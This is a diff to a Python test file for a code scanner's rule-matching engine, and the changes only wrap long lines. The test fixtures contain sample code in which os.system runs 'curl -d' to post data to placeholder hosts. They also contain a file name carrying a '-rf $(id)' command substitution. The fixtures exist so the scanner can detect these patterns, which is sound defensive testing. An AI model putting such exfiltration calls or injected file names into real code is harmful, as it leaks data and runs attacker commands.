@@ -13,7 +13,9 @@ from scanner.matching.engine import Engine, Outcome, Workspace
 from scanner.matching.outcome import read_output
 
 RULES = bundled_rules()
-SENDS = GateInput("pkg/a.py", "import os\nos.system(\"curl -d x https://stats.example.org\")\n", frozenset({"os"}), "python")
+SENDS = GateInput(
+    "pkg/a.py", 'import os\nos.system("curl -d x https://stats.example.org")\n', frozenset({"os"}), "python"
+)
 
 
 def seen(files: list[GateInput]) -> list[tuple[str, str, int, int]]:
@@ -41,7 +43,9 @@ def test_floor_is_compared_as_numbers() -> None:
 
 def test_matches_are_mapped_back_and_sorted() -> None:
     other = GateInput("-rf $(id)\n.py", SENDS.text, frozenset({"os"}), "python")
-    unicode = GateInput("z/é.py", "import os\nx = 'é'; os.system('curl -d x https://e.example.org')\n", frozenset(), "python")
+    unicode = GateInput(
+        "z/é.py", "import os\nx = 'é'; os.system('curl -d x https://e.example.org')\n", frozenset(), "python"
+    )
     found = seen([unicode, SENDS, other])
     assert found == [
         ("shell-command-uploads", "-rf $(id)\n.py", 2, 1),
@@ -81,7 +85,9 @@ def test_a_failing_engine_is_followed_by_the_next(monkeypatch: pytest.MonkeyPatc
     assert match([SENDS], RULES).status.state == "used"
 
 
-@pytest.mark.parametrize("argv", [("sh", "-c", "echo '{\"results\": 7}'"), ("sh", "-c", "kill -9 $$"), ("sh", "-c", "sleep 60")])
+@pytest.mark.parametrize(
+    "argv", [("sh", "-c", "echo '{\"results\": 7}'"), ("sh", "-c", "kill -9 $$"), ("sh", "-c", "sleep 60")]
+)
 def test_an_engine_that_crashes_hangs_or_babbles_fails_softly(
     argv: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
 ) -> None:
